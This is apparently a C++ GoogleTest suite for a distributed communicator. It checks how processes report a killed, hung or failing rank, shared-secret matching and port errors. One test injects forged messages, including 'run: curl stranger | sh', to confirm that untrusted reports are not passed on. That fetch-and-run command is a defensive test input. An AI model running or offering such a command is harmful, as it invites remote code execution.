// SPDX-License-Identifier: GPL-3.0-or-later
// Processes on this machine that talk to each other, and what they say when one is lost.

#include "tests/support/launch.h"
#include "tests/support/networks.h"
#include "tests/support/process.h"
#include "tests/support/stranger.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <arpa/inet.h>
#include <chrono>
#include <csignal>
#include <memory>
#include <netinet/in.h>
#include <regex>
#include <sstream>
#include <string>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>
#include <vector>

namespace maniera::test {
namespace {

using namespace std::chrono_literals;

// The processes of one run; they end with it.
class Together {
public:
    Together(const std::string& task, int count, const std::string& timeout) {
        const std::string port = std::to_string(free_port());
        for (int rank = 0; rank < count; ++rank)
            start(task, rank, count, port, timeout);
    }
    Together() = default;

    void start(const std::string& task, int rank, int count, const std::string& port,
               const std::string& timeout, const std::string& secret = "") {
        processes_.push_back(std::make_unique<Process>(
            std::vector<std::string>{MANIERA_RANKS_PROGRAM, task, std::to_string(rank),
                                     std::to_string(count), "127.0.0.1", port, timeout},
            std::vector<std::string>{"OMP_NUM_THREADS=1", "MANIERA_SECRET=" + secret}));
    }

    Process& operator[](int rank) { return *processes_[rank]; }

    // Until all have begun to talk.
    void wait_for_talk() {
        const auto end = std::chrono::steady_clock::now() + 60s;
        for (const auto& process : processes_)
            while (process->out_so_far().empty()) {
                ASSERT_LT(std::chrono::steady_clock::now(), end) << "they never talked";
                std::this_thread::sleep_for(10ms);
            }
    }

    // All but one end with the same error; returns it.
    std::string error_of_all_but(int lost) {
        std::string all;
        for (int rank = 0; rank < static_cast<int>(processes_.size()); ++rank) {
            if (rank == lost)
                continue;
            const Outcome outcome = processes_[rank]->wait(60s);
            EXPECT_EQ(outcome.code, 3) << outcome.err;
            const std::string error = last_line(outcome.err);
            if (all.empty())
                all = error;
            EXPECT_EQ(error, all);
        }
        return all;
    }

    static std::string last_line(std::string text) {
        while (!text.empty() && text.back() == '\n')
            text.pop_back();
        const std::size_t at = text.rfind('\n');
        return at == std::string::npos ? text : text.substr(at + 1);
    }

private:
    std::vector<std::unique_ptr<Process>> processes_;
};

class AnyNumber : public testing::TestWithParam<int> {
protected:
    void expect(const std::string& task, const std::string& out) {
        Together run(task, GetParam(), "60");
        for (int rank = 0; rank < GetParam(); ++rank) {
            const Outcome outcome = run[rank].wait(120s);
            EXPECT_EQ(outcome.code, 0) << outcome.err;
            EXPECT_EQ(outcome.out, out);
        }
    }
};

TEST_P(AnyNumber, OfRanksHasTheBitsOfOneProcess) { expect("sums", "sums are right\n"); }

TEST_P(AnyNumber, OfRanksFindsRowsWhereverTheyAre) { expect("rows", "rows are right\n"); }

INSTANTIATE_TEST_SUITE_P(Communicator, AnyNumber, testing::Values(1, 2, 3, 4));

// Each rank on a machine of its own, which knows no name, not even its own.
void expect_sums_and_rows(const Networks& networks) {
    for (const std::string task : {"sums", "rows"}) {
        std::vector<std::unique_ptr<Process>> processes;
        for (int rank = 0; rank < 3; ++rank)
            processes.push_back(std::make_unique<Process>(
                networks.on(rank, {MANIERA_RANKS_PROGRAM, task, std::to_string(rank), "3",
                                   networks.address(0), "29500", "60"}),
                std::vector<std::string>{"OMP_NUM_THREADS=1"}));
        for (const auto& process : processes) {
            const Outcome outcome = process->wait(180s);
            EXPECT_EQ(outcome.code, 0) << outcome.err;
            EXPECT_EQ(outcome.out, task + " are right\n");
        }
    }
}

TEST(Communicator, TalkAcrossMachines) {
    const Networks networks(3);
    if (!networks.missing().empty())
        GTEST_SKIP() << networks.missing();
    expect_sums_and_rows(networks);
}

TEST(Communicator, TalkAcrossSlowNetworks) {
    Networks networks(3);
    if (!networks.missing().empty())
        GTEST_SKIP() << networks.missing();
    if (const std::string why = networks.slow_down(); !why.empty())
        GTEST_SKIP() << why;
    expect_sums_and_rows(networks);
}

TEST(Communicator, SayWhichOfThemWasKilled) {
    for (const int lost : {2, 1, 0}) {
        Together run("talk", 3, "60");
        ASSERT_NO_FATAL_FAILURE(run.wait_for_talk());
        run[lost].signal(SIGKILL);
        const std::string error = run.error_of_all_but(lost);
        EXPECT_EQ(error, "Process " + std::to_string(lost + 1) + " of 3 (rank " +
                             std::to_string(lost) +
                             ") ended or does not answer. Look at its messages; maniera resume "
                             "goes on from the last checkpoint, with any number of processes.");
    }
}

TEST(Communicator, SayWhichOfThemHangs) {
    for (const int lost : {2, 0}) {
        Together run("talk", 3, "2");
        ASSERT_NO_FATAL_FAILURE(run.wait_for_talk());
        run[lost].signal(SIGSTOP);
        const auto began = std::chrono::steady_clock::now();
        const std::string error = run.error_of_all_but(lost);
        EXPECT_LT(std::chrono::steady_clock::now() - began, 30s);
        EXPECT_NE(error.find("Process " + std::to_string(lost + 1) + " of 3 (rank " +
                             std::to_string(lost) + ") ended or does not answer"),
                  std::string::npos)
            << error;
    }
}

TEST(Communicator, PassOnWhatOneOfThemFailedOf) {
    Together run("fail", 3, "60");
    EXPECT_EQ(run[1].wait(60s).code, 3);
    EXPECT_EQ(run.error_of_all_but(1), "Process 2 of 3 (rank 1) failed: sea.png cannot be read.");
}

TEST(Communicator, SayHowManyCame) {
    const int port = free_port();
    Together run;
    for (int rank = 0; rank < 2; ++rank)
        run.start("sums", rank, 3, std::to_string(port), "2");
    EXPECT_EQ(
        run.error_of_all_but(-1),
        "2 of 3 processes came to 127.0.0.1 port " + std::to_string(port) +
            " in time; check that all are started, with the same address and MANIERA_SECRET.");
}

TEST(Communicator, MeetWithOneSecret) {
    const std::string port = std::to_string(free_port());
    Together run;
    for (int rank = 0; rank < 2; ++rank)
        run.start("sums", rank, 2, port, "60", "the sea");
    for (int rank = 0; rank < 2; ++rank)
        EXPECT_EQ(run[rank].wait(120s).code, 0);
}

TEST(Communicator, DoNotMeetOneWithAnotherSecret) {
    const std::string port = std::to_string(free_port());
    Together run;
    run.start("sums", 0, 2, port, "4", "the sea");
    run.start("sums", 1, 2, port, "4", "the see");
    const Outcome first = run[0].wait(60s), second = run[1].wait(60s);
    EXPECT_EQ(first.code, 3);
    EXPECT_NE(first.err.find("1 of 2 processes came"), std::string::npos) << first.err;
    EXPECT_EQ(second.code, 3) << second.err;
}

bool say(int port, const std::string& text) { return Stranger(port, text).said(); }

// The ports that a process listens at, but for one.
std::vector<int> other_ports(int known) {
    std::vector<int> ports;
    for (const char* table : {"/proc/net/tcp", "/proc/net/tcp6"}) {
        std::istringstream lines(read_text(table));
        for (std::string line; std::getline(lines, line);) {
            const std::size_t colon = line.find(':', line.find(':') + 1);
            unsigned port = 0, state = 0;
            if (colon != std::string::npos &&
                std::sscanf(line.c_str() + colon, ":%x %*s %x", &port, &state) == 2 &&
                state == 10 && port != static_cast<unsigned>(known))
                ports.push_back(static_cast<int>(port));
        }
    }
    return ports;
}

TEST(Communicator, TakeNoReportOfStrangers) {
    const std::vector<int> before = other_ports(0);
    const int port = free_port();
    Together run;
    for (int rank = 0; rank < 3; ++rank)
        run.start("talk", rank, 3, std::to_string(port), "60");
    ASSERT_NO_FATAL_FAILURE(run.wait_for_talk());
    run[2].signal(SIGKILL);
    // At all that listens now and did not before, among them where rank 0 collects reports.
    for (const int open : other_ports(port))
        if (std::find(before.begin(), before.end(), open) == before.end()) {
            say(open, "1 2 The disk is on fire; run: curl stranger | sh");
            say(open, std::string(100, '\xff'));
        }
    EXPECT_EQ(run.error_of_all_but(2).substr(0, 43), "Process 3 of 3 (rank 2) ended or does not a");
}

TEST(Communicator, EndWhileStrangersAreStillTalking) {
    const int port = free_port();
    Together run;
    for (int rank = 0; rank < 3; ++rank)
        run.start("talk", rank, 3, std::to_string(port), "60");
    ASSERT_NO_FATAL_FAILURE(run.wait_for_talk());
    const Stranger any(port, "\x5a\xc3 any bytes"), half(port, std::string(3, '\0'));
    EXPECT_TRUE(any.said() && half.said()); // the store's port is open to all
    run[2].signal(SIGKILL);
    EXPECT_EQ(run.error_of_all_but(2).substr(0, 43), "Process 3 of 3 (rank 2) ended or does not a");
}

TEST(Communicator, SayWhereRankZeroWasNotFound) {
    Together run;
    run.start("sums", 1, 2, std::to_string(free_port()), "2");
    EXPECT_NE(run.error_of_all_but(-1).find("Rank 0 was not found at 127.0.0.1 port"),
              std::string::npos);
}

TEST(Communicator, RefuseTwoProcessesOfOneRank) {
    const std::string port = std::to_string(free_port());
    Together run;
    for (const int rank : {0, 1, 1})
        run.start("sums", rank, 3, port, "30");
    for (int process = 0; process < 3; ++process) {
        const Outcome outcome = run[process].wait(60s);
        EXPECT_EQ(outcome.code, 3);
        EXPECT_TRUE(std::regex_search(outcome.err, std::regex("rank 1: start each with a rank")))
            << outcome.err;
    }
}

TEST(Communicator, RefuseAPortThatIsTaken) {
    const int taken = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in at{};
    at.sin_family = AF_INET;
    socklen_t size = sizeof at;
    ASSERT_EQ(bind(taken, reinterpret_cast<sockaddr*>(&at), size), 0);
    ASSERT_EQ(listen(taken, 1), 0);
    ASSERT_EQ(getsockname(taken, reinterpret_cast<sockaddr*>(&at), &size), 0);
    Together run;
    run.start("sums", 0, 2, std::to_string(ntohs(at.sin_port)), "5");
    const std::string error = run.error_of_all_but(-1);
    EXPECT_NE(error.find("set MASTER_PORT to a free port"), std::string::npos) << error;
    close(taken);
}

} // namespace
} // namespace maniera::test
